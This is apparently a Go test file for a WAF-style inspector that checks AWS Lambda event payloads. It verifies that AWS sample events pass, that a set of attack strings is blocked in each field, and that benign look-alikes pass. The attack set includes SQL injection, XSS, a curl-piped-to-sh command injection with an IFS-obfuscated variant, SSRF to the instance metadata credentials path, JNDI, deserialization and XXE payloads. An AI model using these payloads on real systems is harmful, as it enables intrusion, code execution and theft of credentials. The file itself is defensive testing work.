package protect

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestSampleEventsPassClean runs every sample event aws-lambda-go ships
// (read from the module's directory, not copied) through the inspector.
func TestSampleEventsPassClean(t *testing.T) {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/aws/aws-lambda-go").Output()
	if err != nil {
		t.Fatalf("locate aws-lambda-go: %v", err)
	}
	files, _ := filepath.Glob(filepath.Join(strings.TrimSpace(string(out)), "events", "testdata", "*.json"))
	if len(files) < 100 {
		t.Fatalf("found %d sample events, expected over 100", len(files))
	}
	in := sharedInspector(t)
	checked := 0
	for _, f := range files {
		name := filepath.Base(f)
		if strings.HasSuffix(name, "-response.json") {
			t.Logf("skip %s: a handler's response, not an event a function receives", name)
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		v := in.Inspect(b)
		if v.Action != Allow || len(v.Findings) > 0 {
			t.Errorf("%s (%s): %s, findings %+v", name, v.Source, v.Action, v.Findings)
		}
		checked++
	}
	t.Logf("%d sample events inspected, none blocked", checked)
}

func sharedInspector(t *testing.T) *Inspector {
	t.Helper()
	sharedOnce.Do(func() { shared, sharedErr = newInspectorForTest() })
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return shared
}

// Attack and look-alike payloads. Every attack is blocked in every field
// of every source; every look-alike passes everywhere.
var (
	attacks = map[string]string{
		"sqli":       "1' UNION SELECT password FROM users--",
		"xss":        "<script>alert(document.cookie)</script>",
		"cmd":        "; curl -s http://203.0.113.9/x | sh",
		"traversal":  "../../../../etc/passwd",
		"ssrf":       "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"jndi":       "${jndi:ldap://203.0.113.9:1389/a}",
		"ssti":       "{{7*7}}",
		"serialized": `_$$ND_FUNC$$_function(){require("child_process").exec("id")}()`,
		"xxe":        `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
	}
	lookalikes = []string{
		"O'Reilly",
		"please select a union rep for the meeting",
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
		"<b>bold</b> and <i>italic</i>",
		"Tom & Jerry; the sequel",
		"Meet at 10:30 - bring the report (draft)",
	}
)

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// fieldCase places a value in one inspected field of one source. The value
// is inserted JSON-escaped (quoted) or raw, as the template needs.
type fieldCase struct {
	source, field string
	event         func(v string) string
	// record is the batch index the value lands in, or -1.
	record int
}

func sqsEvent(body, attr string) string {
	rec := func(id, b, a string) string {
		return `{"messageId":"` + id + `","body":` + jsonString(b) + `,"attributes":{"SenderId":"AIDA"},` +
			`"messageAttributes":{"k":{"stringValue":` + jsonString(a) + `,"dataType":"String"}},"eventSource":"aws:sqs"}`
	}
	return `{"Records":[` + rec("m0", `{"n":1}`, "x") + `,` + rec("m1", body, attr) + `]}`
}

var fieldCases = []fieldCase{
	{"sqs", "body (text)", func(v string) string { return sqsEvent(v, "x") }, 1},
	{"sqs", "body (json)", func(v string) string { return sqsEvent(`{"user":{"name":`+jsonString(v)+`}}`, "x") }, 1},
	{"sqs", "message attribute", func(v string) string { return sqsEvent(`{"n":2}`, v) }, 1},
	{"sqs", "sns envelope", func(v string) string {
		return sqsEvent(`{"Type":"Notification","MessageId":"i","TopicArn":"arn","Message":`+jsonString(`{"q":`+jsonString(v)+`}`)+`}`, "x")
	}, 1},
	{"sns", "Message", func(v string) string {
		return `{"Records":[{"EventSource":"aws:sns","Sns":{"Subject":"s","Message":` + jsonString(v) + `,"MessageAttributes":{}}}]}`
	}, 0},
	{"sns", "Subject", func(v string) string {
		return `{"Records":[{"EventSource":"aws:sns","Sns":{"Subject":` + jsonString(v) + `,"Message":"m","MessageAttributes":{}}}]}`
	}, 0},
	{"sns", "message attribute", func(v string) string {
		return `{"Records":[{"EventSource":"aws:sns","Sns":{"Message":"m","MessageAttributes":{"a":{"Type":"String","Value":` + jsonString(v) + `}}}}]}`
	}, 0},
	{"dynamodb", "NewImage nested", func(v string) string {
		return `{"Records":[{"eventSource":"aws:dynamodb","dynamodb":{"SequenceNumber":"1","Keys":{"pk":{"S":"a"}},` +
			`"NewImage":{"p":{"M":{"l":{"L":[{"S":` + jsonString(v) + `}]}}}}}}]}`
	}, 0},
	{"kinesis", "data", func(v string) string {
		return `{"Records":[{"eventSource":"aws:kinesis","kinesis":{"sequenceNumber":"1","partitionKey":"p","data":"` + b64(`{"v":`+jsonString(v)+`}`) + `"}}]}`
	}, 0},
	{"firehose", "data", func(v string) string {
		return `{"deliveryStreamArn":"arn","records":[{"recordId":"r","data":"` + b64(v) + `"}]}`
	}, 0},
	{"kafka", "value", func(v string) string {
		return `{"eventSource":"aws:kafka","records":{"t-0":[{"key":"` + b64("k") + `","value":"` + b64(v) + `","headers":[]}]}}`
	}, 0},
	{"eventbridge", "detail", func(v string) string {
		return `{"version":"0","detail-type":"t","source":"s","detail":{"a":{"b":` + jsonString(v) + `}}}`
	}, -1},
	{"cognito", "userAttributes", func(v string) string {
		return `{"triggerSource":"PreSignUp_SignUp","userPoolId":"p","request":{"userAttributes":{"name":` + jsonString(v) + `}}}`
	}, -1},
	{"direct", "nested value", func(v string) string { return `{"a":[{"b":` + jsonString(v) + `}]}` }, -1},
	{"apigw-http", "query", func(v string) string {
		return `{"version":"2.0","rawPath":"/","rawQueryString":"q=` + queryEscape(v) + `","headers":{"host":"h","user-agent":"ua","accept":"*/*"},"requestContext":{"http":{"method":"GET"}}}`
	}, -1},
	{"apigw-http", "json body", func(v string) string {
		return `{"version":"2.0","rawPath":"/","rawQueryString":"","headers":{"host":"h","user-agent":"ua","accept":"*/*","content-type":"application/json"},"requestContext":{"http":{"method":"POST"}},"body":` + jsonString(`{"a":{"b":`+jsonString(v)+`}}`) + `}`
	}, -1},
	{"apigw-http", "cookie", func(v string) string {
		return `{"version":"2.0","rawPath":"/","rawQueryString":"","cookies":[` + jsonString("s="+v) + `],"headers":{"host":"h","user-agent":"ua","accept":"*/*"},"requestContext":{"http":{"method":"GET"}}}`
	}, -1},
	{"apigw-rest", "form body", func(v string) string {
		return `{"httpMethod":"POST","path":"/","headers":{"Host":"h","User-Agent":"ua","Accept":"*/*","Content-Type":"application/x-www-form-urlencoded"},"requestContext":{},"body":` + jsonString("a="+queryEscape(v)) + `}`
	}, -1},
	{"alb", "query", func(v string) string {
		return `{"requestContext":{"elb":{}},"httpMethod":"GET","path":"/","queryStringParameters":{"q":` + jsonString(queryEscape(v)) + `},"headers":{"host":"h","user-agent":"ua","accept":"*/*"}}`
	}, -1},
}

func queryEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.' {
			b.WriteByte(c)
		} else {
			b.WriteString("%" + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
		}
	}
	return b.String()
}

func TestAttacksInEveryField(t *testing.T) {
	in := sharedInspector(t)
	for _, fc := range fieldCases {
		for name, attack := range attacks {
			if fc.field == "cookie" && name == "cmd" {
				// Cookie values cannot carry ';' or spaces, and neither
				// CRS nor Go's cookie parser URL-decodes them: the real
				// attack here is the one that needs neither.
				attack = "$(curl${IFS}-s${IFS}http://203.0.113.9/x|sh)"
			}
			t.Run(fc.source+"/"+fc.field+"/"+name, func(t *testing.T) {
				v := in.Inspect([]byte(fc.event(attack)))
				if v.Source != fc.source {
					t.Fatalf("classified as %q", v.Source)
				}
				if v.Action != Deny {
					t.Fatalf("not blocked; findings %+v", v.Findings)
				}
				if fc.record >= 0 && !slices.Equal(v.BlockedRecords, []int{fc.record}) {
					t.Fatalf("blocked records %v, want [%d]", v.BlockedRecords, fc.record)
				}
			})
		}
	}
}

func TestLookalikesPassInEveryField(t *testing.T) {
	in := sharedInspector(t)
	for _, fc := range fieldCases {
		for _, benign := range lookalikes {
			v := in.Inspect([]byte(fc.event(benign)))
			if v.Action != Allow || len(v.Findings) > 0 {
				t.Errorf("%s/%s %q: %s, findings %+v", fc.source, fc.field, benign, v.Action, v.Findings)
			}
		}
	}
}
